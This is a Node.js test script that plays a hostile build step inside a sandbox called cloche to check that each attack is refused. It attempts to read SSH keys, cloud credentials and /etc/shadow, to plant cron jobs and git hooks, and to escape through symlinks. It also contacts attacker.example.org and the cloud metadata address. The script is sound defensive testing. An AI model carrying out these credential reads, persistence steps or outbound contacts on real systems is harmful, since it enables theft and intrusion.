// What a hostile dependency or build would try. Each attempt prints one line saying how it ended.
// Under `cloche ship` every line must say "refused", and the last act must fail at the commit.
// An attempt that succeeds changes nothing that stays: it shows that a door is open, and closes it.
import { spawn, spawnSync } from "node:child_process";
import dgram from "node:dgram";
import { lookup } from "node:dns/promises";
import fs from "node:fs";
import net from "node:net";
import { join } from "node:path";

const stage = process.argv[2] ?? "build";

// Outside of a jar this is an attack on whoever tries it, so there it does nothing at all.
if (process.cwd() !== "/project" || fs.readFileSync("/etc/hostname", "utf8") !== "cloche\n") {
  console.error("this runs only in the jar: cloche ship examples/hostile-app");
  process.exit(1);
}

const ATTACKER = "attacker.example.org";
const SOMEWHERE = "203.0.113.7"; // RFC 5737: an address of nobody
const PATIENCE = 1000;

async function attempt(what, act) {
  try {
    const result = await act();
    console.log(`[${stage}] ${what}: SUCCEEDED${result ? ` (${String(result).slice(0, 60)})` : ""}`);
  } catch (error) {
    console.log(`[${stage}] ${what}: refused (${error.code ?? error.message})`);
  }
}

function connect(host, port) {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port });
    const give = (error) => {
      socket.destroy();
      if (error) reject(error);
      else resolve();
    };
    socket.setTimeout(PATIENCE, () => give(new Error("no answer")));
    // An address that is only accepted and closed again has not reached anybody.
    socket.on("connect", () => socket.write("GET / HTTP/1.0\r\n\r\n"));
    socket.on("data", () => give());
    socket.on("close", () => give(new Error("closed without an answer")));
    socket.on("error", give);
  });
}

function tell(address, text) {
  return new Promise((resolve, reject) => {
    const socket = dgram.createSocket("udp4");
    const timer = setTimeout(() => {
      socket.close();
      reject(new Error("no answer"));
    }, PATIENCE);
    socket.on("message", () => {
      clearTimeout(timer);
      socket.close();
      resolve();
    });
    socket.on("error", (error) => {
      clearTimeout(timer);
      socket.close();
      reject(error);
    });
    socket.send(text, 4433, address);
  });
}

function run(program, ...words) {
  const done = spawnSync(program, words, { timeout: PATIENCE, encoding: "utf8" });
  if (done.error) throw done.error;
  if (done.status !== 0) throw new Error((done.stderr || `exit status ${done.status}`).trim());
  return done.stdout.trim();
}

function homes() {
  const users = [];
  for (const base of ["/home", "/Users"]) {
    try {
      users.push(...fs.readdirSync(base).map((name) => join(base, name)));
    } catch {
      // Not there.
    }
  }
  return ["/root", process.env.HOME, ...users].filter(Boolean);
}

function stolen() {
  for (const home of homes()) {
    for (const name of [".ssh/id_ed25519", ".ssh/id_rsa", ".npmrc", ".aws/credentials"]) {
      try {
        return `${fs.readFileSync(join(home, name)).length} bytes of ${name}`;
      } catch {
        // The next one, then.
      }
    }
  }
  throw new Error("no secret anywhere");
}

function secretInEnvironment() {
  const own = Object.keys(process.env).filter((name) => /TOKEN|SECRET|PASSWORD|KEY/i.test(name));
  const first = fs.readFileSync("/proc/1/environ", "latin1");
  if (own.length === 0 && !/TOKEN|SECRET|PASSWORD/i.test(first)) throw new Error("none there");
  return own.join(" ");
}

function write(path) {
  // Exclusive, and taken away again: no file that was there is touched.
  fs.writeFileSync(path, "planted\n", { flag: "wx" });
  fs.unlinkSync(path);
  return path;
}

function openToWrite(path) {
  fs.closeSync(fs.openSync(path, "r+"));
  return path;
}

await attempt("read keys and tokens of the user", stolen);
await attempt("find secrets in the environment", secretInEnvironment);
await attempt("read /etc/shadow", () => `${fs.readFileSync("/etc/shadow").length} bytes`);
await attempt("write beside the project", () => write("../hostile-example.txt"));
await attempt("write into the system", () => write("/usr/local/bin/hostile-example"));
await attempt("write a job of cron", () => write("/etc/cron.d/hostile-example"));
await attempt("change a setting of the kernel", () => openToWrite("/proc/sys/kernel/core_pattern"));
await attempt("step out through a link", () => {
  fs.symlinkSync("/", "way-out");
  try {
    return write("way-out/etc/hostile-example");
  } finally {
    fs.unlinkSync("way-out");
  }
});
await attempt(`find ${ATTACKER}`, async () => (await lookup(ATTACKER)).address);
await attempt(`send data to ${ATTACKER}`, () => connect(ATTACKER, 443));
await attempt("send data to a bare address", () => connect(SOMEWHERE, 443));
await attempt("send data in a datagram", () => tell(SOMEWHERE, "secret"));
await attempt("reach a service of the host", () => connect("127.0.0.1", 22));
await attempt("reach the cloud's metadata", () => connect("169.254.169.254", 80));
await attempt("become root in a new namespace", () => run("unshare", "-Ur", "id", "-u"));
await attempt("mount a file system", () => {
  const place = fs.mkdtempSync("/tmp/hostile-example-");
  try {
    run("mount", "-t", "tmpfs", "none", place);
    run("umount", place);
    return place;
  } finally {
    fs.rmdirSync(place);
  }
});
await attempt("end other people's processes", () => {
  // Only the jar's own processes are here; the first is its init, which does not heed us.
  const others = fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name) && Number(name) > 60);
  if (others.length > 40) return `${others.length} processes to choose from`;
  throw new Error("only our own are to be seen");
});

// A daemon in a session of its own, which outlives the build: the jar is emptied after the step.
const daemon = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)", "daemon"], {
  detached: true,
  stdio: "ignore",
});
daemon.unref();
console.log(`[${stage}] leave a daemon behind: started; it must be gone when the step ends`);

if (stage === "build") {
  fs.mkdirSync("dist", { recursive: true });
  fs.writeFileSync("dist/index.html", "<!doctype html>\n<title>harmless</title>\n<p>harmless\n");
  fs.mkdirSync(".git/hooks", { recursive: true });
  fs.writeFileSync(".git/hooks/pre-commit", "#!/bin/sh\necho the user is mine\n", { mode: 0o755 });
  console.log(`[${stage}] plant a git hook: written here; the commit must refuse it`);
  fs.symlinkSync("/etc/passwd", "leak");
  console.log(`[${stage}] leave a link to /etc/passwd: written here; the commit must refuse it`);
}
